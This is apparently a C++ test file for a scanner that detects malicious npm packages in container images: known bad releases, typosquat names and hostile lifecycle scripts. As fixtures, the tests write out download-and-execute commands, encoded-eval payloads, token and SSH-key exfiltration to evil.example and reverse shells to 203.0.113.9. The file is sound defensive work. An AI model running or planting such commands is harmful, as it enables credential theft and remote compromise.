#include "detect/npm_checks.h"

#include <gtest/gtest.h>

#include <map>
#include <string>
#include <utility>
#include <vector>

#include "catalog/catalogers.h"
#include "catalog/npm.h"
#include "image/source.h"
#include "layer/decompress.h"
#include "layer/walker.h"
#include "tests/testing.h"

namespace customs::detect {
namespace {

model::Package Npm(std::string name, std::string version,
                   std::map<std::string, std::string> scripts = {}) {
  model::Package p;
  p.type = "npm";
  p.name = std::move(name);
  p.version = std::move(version);
  p.purl = catalog::NpmPurl(p.name, p.version);
  p.db_path = "srv/app/node_modules/" + p.name + "/package.json";
  p.layer.index = 3;
  p.layer.diff_id = "sha256:1111111111111111111111111111111111111111111111111111111111111111";
  p.scripts = std::move(scripts);
  return p;
}

std::vector<model::Detection> Check(const model::Package& p) {
  return CheckNpmPackages(std::vector<model::Package>{p});
}

// ---------------------------------------------------------------------------
// Known malicious releases.

struct KnownCase {
  std::string name;
  std::vector<std::string> bad;
  std::vector<std::string> good;  // the neighbouring clean releases
  std::string reference;
};

// Versions from the advisories and reports each reference names
// (contraband.md §3.2); the good ones are the releases before and after.
const std::vector<KnownCase>& KnownCases() {
  static const std::vector<KnownCase> cases = {
      {"event-stream", {"3.3.6"}, {"3.3.4", "4.0.0", "4.0.1"}, "GHSA-mh6f-8j2x-4483"},
      {"ua-parser-js",
       {"0.7.29", "0.8.0", "1.0.0"},
       {"0.7.28", "0.7.30", "0.8.1", "1.0.1"},
       "GHSA-pjwm-rvh2-c87w"},
      {"coa",
       {"2.0.3", "2.0.4", "2.1.1", "2.1.3", "3.0.1", "3.1.3"},
       {"2.0.2", "3.1.4"},
       "GHSA-73qr-pfmq-6rp8"},
      {"rc", {"1.2.9", "1.3.9", "2.3.9"}, {"1.2.8"}, "GHSA-g2q5-5433-rhrf"},
      {"eslint-scope", {"3.7.2"}, {"3.7.1", "3.7.3", "4.0.0"}, "GHSA-hxxf-q3w9-4xgw"},
      {"eslint-config-eslint", {"5.0.2"}, {"5.0.1"}, "eslint/eslint/issues/10600"},
      {"node-ipc", {"10.1.1", "10.1.2"}, {"10.1.0", "10.1.3", "9.2.1"}, "GHSA-97m3-w2cp-4xx6"},
      {"colors", {"1.4.1", "1.4.2", "1.4.44-liberty-2"}, {"1.4.0", "1.3.3"}, "GHSA-5rqg-jm4f-cqx7"},
      {"debug", {"4.4.2"}, {"4.4.1", "4.4.3", "2.6.9"}, "debug-js/debug/issues/1005"},
      {"chalk", {"5.6.1"}, {"5.6.0", "5.6.2", "4.1.2"}, "chalk/chalk/issues/656"},
      {"ansi-styles", {"6.2.2"}, {"6.2.1", "6.2.3"}, "chalk/chalk/issues/656"},
      {"strip-ansi", {"7.1.1"}, {"7.1.0", "7.1.2"}, "chalk/chalk/issues/656"},
      {"error-ex", {"1.3.3"}, {"1.3.2", "1.3.4"}, "chalk/chalk/issues/656"},
      {"@solana/web3.js", {"1.95.6", "1.95.7"}, {"1.95.5", "1.95.8"}, "GHSA-jcxm-7wvp-g6p5"},
      {"eslint-config-prettier",
       {"8.10.1", "9.1.1", "10.1.6", "10.1.7"},
       {"8.10.0", "9.1.0", "10.1.5", "10.1.8"},
       "eslint-config-prettier/issues/339"},
      {"eslint-plugin-prettier", {"4.2.2", "4.2.3"}, {"4.2.1", "4.2.5"}, "issues/339"},
      {"@ctrl/tinycolor", {"4.1.1", "4.1.2"}, {"4.1.0", "4.2.0"}, "tinycolor/issues/257"},
  };
  return cases;
}

TEST(NpmKnownMalicious, ExactBadVersionsFireNeighboursDoNot) {
  for (const auto& c : KnownCases()) {
    for (const auto& v : c.bad) {
      model::Package p = Npm(c.name, v);
      auto ds = Check(p);
      ASSERT_EQ(ds.size(), 1u) << c.name << " " << v;
      const auto& d = ds[0];
      EXPECT_EQ(d.rule_id, "npm-known-malicious");
      EXPECT_EQ(d.category, "malicious-package");
      EXPECT_EQ(d.severity, model::Severity::kCritical);
      EXPECT_EQ(d.disposition, model::Disposition::kMalicious);
      EXPECT_EQ(d.confidence, model::Confidence::kHigh);
      EXPECT_EQ(d.path, p.db_path);
      EXPECT_EQ(d.purl, p.purl);
      EXPECT_EQ(d.layer, p.layer);
      EXPECT_NE(d.reference.find(c.reference), std::string::npos) << d.reference;
      EXPECT_TRUE(d.reference.starts_with("https://")) << d.reference;
      EXPECT_TRUE(d.evidence.starts_with(c.name + " " + v + " is ")) << d.evidence;
      EXPECT_NE(d.evidence.find(d.reference), std::string::npos) << d.evidence;
      EXPECT_TRUE(d.title.starts_with("known malicious npm release: ")) << d.title;
    }
    for (const auto& v : c.good) EXPECT_TRUE(Check(Npm(c.name, v)).empty()) << c.name << " " << v;
  }
}

TEST(NpmKnownMalicious, EventStreamEvidenceNamesFlatmapStream) {
  auto ds = Check(Npm("event-stream", "3.3.6"));
  ASSERT_EQ(ds.size(), 1u);
  EXPECT_EQ(ds[0].evidence,
            "event-stream 3.3.6 is the version that pulled in flatmap-stream, whose hidden "
            "payload stole from Copay bitcoin wallets "
            "(https://github.com/advisories/GHSA-mh6f-8j2x-4483)");
  EXPECT_EQ(ds[0].purl, "pkg:npm/event-stream@3.3.6");
}

TEST(NpmKnownMalicious, WholePackagesFireForEveryVersionButNpmsPlaceholder) {
  for (std::string v : {"0.1.0", "0.1.1", "0.1.2"}) {
    auto ds = Check(Npm("flatmap-stream", v));
    ASSERT_EQ(ds.size(), 1u) << v;
    EXPECT_EQ(ds[0].rule_id, "npm-known-malicious");
    EXPECT_NE(ds[0].reference.find("GHSA-9x64-5r7x-2q53"), std::string::npos);
  }
  // npm's empty placeholder for a removed package carries no payload.
  EXPECT_TRUE(Check(Npm("flatmap-stream", "0.0.1-security")).empty());

  // crossenv: known malicious, and only that (not also a typosquat finding).
  auto ds = Check(Npm("crossenv", "6.1.1"));
  ASSERT_EQ(ds.size(), 1u);
  EXPECT_EQ(ds[0].rule_id, "npm-known-malicious");
  EXPECT_NE(ds[0].evidence.find("typosquat of cross-env"), std::string::npos);
  // Its placeholder is still a name one typo from cross-env.
  ds = Check(Npm("crossenv", "0.0.1-security"));
  ASSERT_EQ(ds.size(), 1u);
  EXPECT_EQ(ds[0].rule_id, "npm-typosquat");
  EXPECT_EQ(ds[0].disposition, model::Disposition::kSuspicious);
  EXPECT_EQ(ds[0].evidence, "name \"crossenv\" is one edit from the popular package cross-env");
}

TEST(NpmKnownMalicious, VersionSpellingsAndOtherEcosystems) {
  EXPECT_EQ(Check(Npm("event-stream", "v3.3.6")).size(), 1u);
  EXPECT_TRUE(Check(Npm("event-stream", "3.3.60")).empty());
  EXPECT_TRUE(Check(Npm("event-stream", "13.3.6")).empty());
  EXPECT_TRUE(Check(Npm("Event-Stream", "3.3.6")).empty());
  // The same name in another ecosystem is another package.
  model::Package p = Npm("colors", "1.4.1");
  p.type = "pypi";
  EXPECT_TRUE(Check(p).empty());
  // A scoped name is matched whole: "web3.js" alone is someone else's.
  EXPECT_TRUE(Check(Npm("@other/web3.js", "1.95.6")).empty());
  EXPECT_EQ(Check(Npm("@solana/web3.js", "1.95.6"))[0].purl, "pkg:npm/%40solana/web3.js@1.95.6");
}

// ---------------------------------------------------------------------------
// Lifecycle scripts.

struct ScriptCase {
  std::string script;
  std::string rule;
};

TEST(NpmLifecycleScripts, DownloadAndExecuteIsMalicious) {
  const std::vector<ScriptCase> cases = {
      {"curl -s http://evil.example/x.sh | sh", "npm-script-download-exec"},
      {"wget -qO- https://evil.example/i|bash", "npm-script-download-exec"},
      {"curl -fsSL https://evil.example/a | sudo -E bash -s -- --now", "npm-script-download-exec"},
      {"curl https://evil.example/p.js | /usr/bin/node", "npm-script-download-exec"},
      {"wget -q -O - http://198.51.100.7/logo3.jpg | python3", "npm-script-download-exec"},
      {"curl -o /tmp/.x https://evil.example/x && chmod +x /tmp/.x && /tmp/.x",
       "npm-script-download-exec"},
      {"wget https://evil.example/m -O m; chmod 755 m; ./m", "npm-script-download-exec"},
      {"sh -c \"$(curl -fsSL https://evil.example/i.sh)\"", "npm-script-download-exec"},
      {"bash <(curl -s https://evil.example/i.sh)", "npm-script-download-exec"},
      {"eval \"`wget -qO- https://evil.example/e`\"", "npm-script-download-exec"},
      {"node -e \"require('https').get('https://evil.example/p',r=>{let d='';"
       "r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\"",
       "npm-script-download-exec"},
      {"node -e \"fetch('http://evil.example/c').then(r=>r.text()).then(t=>require("
       "'child_process').exec(t))\"",
       "npm-script-download-exec"},
      {"powershell -c \"iwr https://evil.example/a.ps1 | iex\"", "npm-script-download-exec"},
      {"powershell -NoP -W Hidden -c \"IEX (New-Object "
       "Net.WebClient).DownloadString('http://evil.example/a')\"",
       "npm-script-download-exec"},
      {"powershell Invoke-WebRequest -Uri http://evil.example/a.exe -OutFile a.exe; "
       "Start-Process a.exe",
       "npm-script-download-exec"},
      {"certutil -urlcache -split -f http://evil.example/a.exe %TEMP%\\a.exe",
       "npm-script-download-exec"},
      {"bitsadmin /transfer j http://evil.example/a.exe C:\\a.exe", "npm-script-download-exec"},
  };
  for (const auto& c : cases) {
    ScriptFinding f = JudgeLifecycleScript(c.script);
    EXPECT_EQ(f.rule_id, c.rule) << c.script;
    EXPECT_EQ(f.disposition, model::Disposition::kMalicious) << c.script;
    EXPECT_FALSE(f.reason.empty());
  }
}

TEST(NpmLifecycleScripts, DecodeAndEvalIsMalicious) {
  const std::vector<std::string> cases = {
      "node -e \"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\"",
      "node -e \"eval(atob('Y29uc29sZS5sb2coMSk='))\"",
      "node -e \"new "
      "Function(Buffer.from('636f6e736f6c652e6c6f672831','hex').toString())()\"",
      "node -e \"require('vm').runInThisContext(new "
      "Buffer('Y29uc29sZQ==','base64')+'')\"",
      "node -e \"require('child_process').execSync(Buffer.from(process.argv[1],'base64')+'')\" "
      "aWQ=",
      "node -e \"eval(String.fromCharCode(99,111,110,115,111,108,101))\"",
      "echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g= | base64 -d | sh",
      "eval \"$(echo aWQ= | base64 --decode)\"",
      "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
      "pwsh -EncodedCommand SQBFAFgA",
  };
  for (const auto& script : cases) {
    ScriptFinding f = JudgeLifecycleScript(script);
    EXPECT_EQ(f.rule_id, "npm-script-decode-eval") << script;
    EXPECT_EQ(f.disposition, model::Disposition::kMalicious) << script;
  }
}

TEST(NpmLifecycleScripts, ExfiltrationAndReverseShells) {
  const std::vector<ScriptCase> cases = {
      // eslint-scope 3.7.2's payload read ~/.npmrc and sent the token away.
      {"node -e \"require('https').get('https://evil.example/?t='+require('fs')"
       ".readFileSync(require('path').join(process.env.HOME,'.npmrc')))\"",
       "npm-script-credential-exfil"},
      {"curl -s -d @$HOME/.npmrc https://evil.example/c", "npm-script-credential-exfil"},
      {"cat ~/.ssh/id_rsa | nc evil.example 9000", "npm-script-credential-exfil"},
      {"node -e \"require('https').request({host:'evil.example',method:'POST'})"
       ".end(JSON.stringify(process.env))\"",
       "npm-script-env-exfil"},
      {"env | curl -X POST --data-binary @- https://evil.example/e", "npm-script-env-exfil"},
      {"curl -d \"$(printenv)\" https://evil.example/e", "npm-script-env-exfil"},
      {"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "npm-script-reverse-shell"},
      {"nc -e /bin/sh 203.0.113.9 4444", "npm-script-reverse-shell"},
  };
  for (const auto& c : cases) {
    ScriptFinding f = JudgeLifecycleScript(c.script);
    EXPECT_EQ(f.rule_id, c.rule) << c.script;
    EXPECT_EQ(f.disposition, model::Disposition::kMalicious) << c.script;
  }
}

TEST(NpmLifecycleScripts, WeakerSignalsAreSuspicious) {
  const std::vector<ScriptCase> cases = {
      // coa 2.0.3's and ua-parser-js 0.7.29's preinstall.
      {"start /B node compile.js & node compile.js", "npm-script-hidden-process"},
      {"start /B node preinstall.js & node preinstall.js", "npm-script-hidden-process"},
      {"curl -H \"Authorization: Bearer $NPM_TOKEN\" https://evil.example/t",
       "npm-script-secret-to-network"},
      {"node -e \"require('https').get('https://evil.example/?k='+process.env.AWS_SECRET_"
       "ACCESS_KEY)\"",
       "npm-script-secret-to-network"},
      {"curl -s https://evil.example/ping", "npm-script-network"},
      {"wget https://evil.example/data.bin", "npm-script-network"},
      {"node -e \"require('https').get('https://evil.example/beacon')\"", "npm-script-network"},
      {"node -e \"require('child_process').execSync('id > /tmp/x')\"", "npm-script-inline-exec"},
      {"cmd /c setup.bat", "npm-script-windows-exec"},
      {"rundll32 ./node-gyp.dll,main", "npm-script-windows-exec"},
      {"node -e \"var a='" + std::string(150, 'A') + "'\"", "npm-script-encoded-blob"},
  };
  for (const auto& c : cases) {
    ScriptFinding f = JudgeLifecycleScript(c.script);
    EXPECT_EQ(f.rule_id, c.rule) << c.script;
    EXPECT_EQ(f.disposition, model::Disposition::kSuspicious) << c.script;
  }
}

// Lifecycle scripts of real, well-known packages: none may fire.
TEST(NpmLifecycleScripts, LegitimateScriptsDoNotFire) {
  const std::vector<std::string> cases = {
      "node-gyp rebuild",
      "node install.js",  // esbuild
      "prebuild-install || node-gyp rebuild",
      "prebuild-install -r napi || node-gyp rebuild",
      "husky install",
      "is-ci || husky install",
      "husky",
      "opencollective-postinstall",
      "opencollective postinstall",
      "opencollective-postinstall || true",
      "node scripts/postinstall.js",
      "node ./scripts/install.js",
      "node install/libvips && node install/dll-copy && prebuild-install || (node "
      "install/can-compile && node-gyp rebuild && node install/dll-copy)",  // sharp 0.30
      "node-pre-gyp install --fallback-to-build",
      "node-gyp-build",
      "node-gyp configure build",
      "node-gyp rebuild || exit 0",
      "prebuildify --napi",
      "cmake-js compile",
      "patch-package",
      "ngcc",
      "tsc",
      "npm run build",
      "yarn build",
      "pnpm run build",
      "lerna bootstrap",
      "electron-builder install-app-deps",
      "node -e \"try{require('./postinstall')}catch(e){}\"",  // core-js
      "node -e \"console.log('thanks for installing')\"",
      "node -e \"console.log('Support us: https://opencollective.com/webpack')\"",
      "node ./postinstall.js",
      "node lib/install.js",
      "cd ..; npm run build:main && npm run build:bin",  // acorn
      "cp error-stack-parser.js dist/ && uglifyjs node_modules/stackframe/stackframe.js "
      "error-stack-parser.js -o dist/error-stack-parser.min.js --compress --mangle "
      "--source-map \"url=error-stack-parser.min.js.map\"",
      "del-cli dist && BABEL_ENV=publish babel src --out-dir dist --ignore /__tests__/",
      "cross-env NODE_ENV=production npm run build",
      "webpack --config lib/html-spa/webpack.config.js --mode production",
      "yarn convert-idl && yarn generate-js-globals",
      "make dist/fetch.umd.js dist/fetch.umd.js.flow",
      "npx @leichtgewicht/esm2umd ipCodec",
      "gulp all:tsconfig.json && gulp dist",
      "node scripts/check-versions.js && node scripts/curly-braces.js",
      "echo 'installed'",
      "node-gyp rebuild --directory=src/exec",
      "node build/download-binary.js",
      "",
  };
  for (const auto& script : cases) {
    ScriptFinding f = JudgeLifecycleScript(script);
    EXPECT_TRUE(f.rule_id.empty()) << script << " -> " << f.rule_id << ": " << f.reason;
  }
}

TEST(NpmLifecycleScripts, DetectionQuotesTheScriptBoundedAndRedacted) {
  std::string token = "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB";
  model::Package p =
      Npm("helper-lib", "1.0.0",
          {{"postinstall",
            "curl -s -H \"Authorization: token " + token + "\" https://evil.example/x.sh | sh"},
           {"test", "curl https://evil.example | sh"}});  // not a lifecycle script: ignored
  auto ds = Check(p);
  ASSERT_EQ(ds.size(), 1u);
  const auto& d = ds[0];
  EXPECT_EQ(d.rule_id, "npm-script-download-exec");
  EXPECT_EQ(d.severity, model::Severity::kCritical);
  EXPECT_EQ(d.category, "malicious-package");
  EXPECT_EQ(d.path, "srv/app/node_modules/helper-lib/package.json");
  EXPECT_EQ(d.purl, "pkg:npm/helper-lib@1.0.0");
  EXPECT_EQ(d.layer, p.layer);
  EXPECT_EQ(d.evidence.find(token), std::string::npos) << d.evidence;
  EXPECT_EQ(d.evidence,
            "helper-lib 1.0.0 \"postinstall\" script \"curl -s -H \"Authorization: token "
            "ghp_...(42 characters elided)\" https://evil.example/x.sh | sh\": a download "
            "piped into an interpreter")
      << d.evidence;

  // A long script is cut to about 200 bytes, on one line.
  std::string long_script = "curl https://evil.example/a | sh\n" + std::string(1000, ';');
  auto cut = Check(Npm("x-lib", "1.0.0", {{"preinstall", long_script}}));
  ASSERT_EQ(cut.size(), 1u);
  EXPECT_EQ(cut[0].evidence.find('\n'), std::string::npos);
  EXPECT_NE(cut[0].evidence.find(";;;..."), std::string::npos) << cut[0].evidence;
  EXPECT_LT(cut[0].evidence.size(), 330u) << cut[0].evidence;
}

// ---------------------------------------------------------------------------
// Typosquats.

TEST(NpmTyposquats, OneEditApart) {
  EXPECT_TRUE(OneEditApart("lodash", "lodahs"));   // transposition
  EXPECT_TRUE(OneEditApart("lodash", "loadsh"));   // transposition
  EXPECT_TRUE(OneEditApart("express", "expres"));  // deletion
  EXPECT_TRUE(OneEditApart("express", "expresss"));
  EXPECT_TRUE(OneEditApart("cross-env", "crossenv"));
  EXPECT_TRUE(OneEditApart("body-parser", "body_parser"));  // substitution
  EXPECT_TRUE(OneEditApart("a", ""));
  EXPECT_TRUE(OneEditApart("ab", "ba"));
  EXPECT_FALSE(OneEditApart("lodash", "lodash"));
  EXPECT_FALSE(OneEditApart("abc", "cab"));
  EXPECT_FALSE(OneEditApart("abcd", "badc"));
  EXPECT_FALSE(OneEditApart("chalk", "chai"));  // two edits
  EXPECT_FALSE(OneEditApart("react", "reactive"));
  EXPECT_FALSE(OneEditApart("", ""));
}

TEST(NpmTyposquats, NamesOneEditFromPopularPackages) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"lodahs", "lodash"},        {"loadsh", "lodash"},
      {"expres", "express"},       {"expresss", "express"},
      {"reqeust", "request"},      {"mongose", "mongoose"},
      {"electorn", "electron"},    {"body_parser", "body-parser"},
      {"nodesass", "node-sass"},   {"jqeury", "jquery"},
      {"axois", "axios"},          {"gastby", "gatsby"},
      {"babel-cor", "babel-core"}, {"cross-evn", "cross-env"},
      {"reactt", "react"},         {"d3bug", "debug"},
      {"chalks", "chalk"},         {"comander", "commander"},
  };
  for (const auto& [name, target] : cases) {
    EXPECT_EQ(TyposquatTarget(name), target) << name;
    auto ds = Check(Npm(name, "1.0.0"));
    ASSERT_EQ(ds.size(), 1u) << name;
    EXPECT_EQ(ds[0].rule_id, "npm-typosquat");
    EXPECT_EQ(ds[0].severity, model::Severity::kMedium);
    EXPECT_EQ(ds[0].disposition, model::Disposition::kSuspicious);
    EXPECT_EQ(ds[0].confidence, model::Confidence::kMedium);
    EXPECT_EQ(ds[0].evidence,
              "name \"" + name + "\" is one edit from the popular package " + target);
  }
}

TEST(NpmTyposquats, RealNamesAllowListedNeighboursScopedAndShortNamesDoNot) {
  const std::vector<std::string> cases = {
      // The popular packages themselves (and a legacy mixed-case spelling).
      "lodash", "express", "react", "request", "cross-env", "mysql", "mysql2", "colors", "through2",
      "jQuery",
      // Legitimate neighbours, each one edit from a popular name.
      "colord", "object.assign", "safer-buffer", "color", "through", "preact", "tslint", "mssql",
      "enquirer", "gaxios", "coffeescript", "uglify-es", "sqlite",
      // Scoped packages, even with a typo'd name part.
      "@types/lodash", "@acme/lodahs", "@babel/core",
      // Neighbours of names too short to be on the list.
      "vuex", "blob", "jess", "nest", "wss",
      // Unrelated.
      "left-pad", "is-number", "chai"};
  for (const auto& name : cases) {
    EXPECT_TRUE(TyposquatTarget(name).empty()) << name << " -> " << TyposquatTarget(name);
    EXPECT_TRUE(Check(Npm(name, "0.0.0-test")).empty()) << name;
  }
  // Every allow-listed neighbour above really is one edit from its popular
  // package (the allow-list is not dead weight).
  const std::vector<std::pair<std::string, std::string>> pairs = {
      {"colord", "colors"},
      {"object.assign", "object-assign"},
      {"safer-buffer", "safe-buffer"},
      {"color", "colors"},
      {"through", "through2"},
      {"preact", "react"},
      {"tslint", "eslint"},
      {"mssql", "mysql"},
      {"enquirer", "inquirer"},
      {"gaxios", "axios"},
      {"coffeescript", "coffee-script"},
      {"uglify-es", "uglify-js"},
      {"sqlite", "sqlite3"}};
  for (const auto& [a, b] : pairs) EXPECT_TRUE(OneEditApart(a, b)) << a << " " << b;
}

TEST(NpmChecks, OnlyNpmPackagesAndAllFindingsTogether) {
  model::Package deb;
  deb.type = "deb";
  deb.name = "lodahs";
  deb.version = "1.0";
  deb.scripts["postinstall"] = "curl http://evil.example | sh";
  model::Package bad = Npm("ua-parser-js", "0.7.29",
                           {{"preinstall", "start /B node preinstall.js & node preinstall.js"}});
  model::Package squat = Npm("expres", "4.18.2", {{"install", "node-gyp rebuild"}});
  model::Package clean = Npm("express", "4.18.2");
  auto ds = CheckNpmPackages({deb, bad, squat, clean});
  ASSERT_EQ(ds.size(), 3u);
  EXPECT_EQ(ds[0].rule_id, "npm-known-malicious");
  EXPECT_EQ(ds[0].purl, "pkg:npm/ua-parser-js@0.7.29");
  EXPECT_EQ(ds[1].rule_id, "npm-script-hidden-process");
  EXPECT_EQ(ds[1].purl, "pkg:npm/ua-parser-js@0.7.29");
  EXPECT_EQ(ds[1].reference, "https://docs.npmjs.com/cli/using-npm/scripts");
  EXPECT_EQ(ds[2].rule_id, "npm-typosquat");
  EXPECT_EQ(ds[2].purl, "pkg:npm/expres@4.18.2");
}

// ---------------------------------------------------------------------------
// The real packages of the lang test images: react-scripts 5.0.1's tree
// (1,288 packages, 81 of the image's packages with lifecycle scripts) must
// give nothing. Counts from python3's tarfile over the same archive: every
// node_modules/<name>/package.json with a name and version.

struct ImagePackages {
  std::vector<model::Package> packages;
  size_t npm_package_json = 0;
  size_t with_scripts = 0;
};

ImagePackages ReadImagePackages(const std::string& archive) {
  ImagePackages out;
  auto spec = image::ParseImageSpec("docker-archive:" + archive);
  EXPECT_TRUE(spec.ok()) << spec.status().message();
  if (!spec.ok()) return out;
  Limits limits;
  auto source = image::OpenImageSource(*spec, limits);
  EXPECT_TRUE(source.ok()) << source.status().message();
  if (!source.ok()) return out;
  auto images = (*source)->Resolve(image::PlatformRequest{});
  EXPECT_TRUE(images.ok()) << images.status().message();
  if (!images.ok() || images->empty()) return out;
  const auto& img = images->front();
  auto catalogers = catalog::LanguageCatalogers();
  std::vector<const layer::Analyzer*> analyzers;
  for (const auto& a : catalogers) analyzers.push_back(a.get());
  for (size_t i = 0; i < img.layers.size(); ++i) {
    auto blob = (*source)->OpenLayerBlob(img, i);
    EXPECT_TRUE(blob.ok()) << blob.status().message();
    if (!blob.ok()) return out;
    auto stream = layer::OpenDecompressed(std::move(*blob), limits, "layer");
    EXPECT_TRUE(stream.ok()) << stream.status().message();
    if (!stream.ok()) return out;
    layer::TarEntryReader entries(**stream, limits, "layer " + std::to_string(i));
    auto walked = layer::WalkLayer(entries, analyzers, img.layers[i].diff_id.str());
    EXPECT_TRUE(walked.ok()) << walked.status().message();
    if (!walked.ok()) return out;
    for (auto& p : walked->findings.packages) {
      if (p.type != "npm") continue;
      p.layer.index = static_cast<int>(i);
      if (catalog::IsNodeModulesPackageJson(p.db_path)) {
        ++out.npm_package_json;
        if (!p.scripts.empty()) ++out.with_scripts;
      }
      out.packages.push_back(std::move(p));
    }
  }
  return out;
}

TEST(NpmChecksOnImages, LangImageGivesNothing) {
  CUSTOMS_REQUIRE_IMAGE(archive, "lang.docker-archive.tar");
  ImagePackages got = ReadImagePackages(archive);
  EXPECT_EQ(got.npm_package_json, 52u);
  EXPECT_EQ(got.with_scripts, 1u);
  for (const auto& d : CheckNpmPackages(got.packages))
    ADD_FAILURE() << d.rule_id << " " << d.purl << ": " << d.evidence;
}

TEST(NpmChecksOnImages, ReactScriptsTreeGivesNothing) {
  CUSTOMS_REQUIRE_IMAGE(archive, "langbig.docker-archive.tar");
  ImagePackages got = ReadImagePackages(archive);
  EXPECT_EQ(got.npm_package_json, 1340u);  // 52 of the lang app + 1,288 of react-scripts
  EXPECT_EQ(got.with_scripts, 81u);
  for (const auto& d : CheckNpmPackages(got.packages))
    ADD_FAILURE() << d.rule_id << " " << d.purl << ": " << d.evidence;
}

}  // namespace
}  // namespace customs::detect
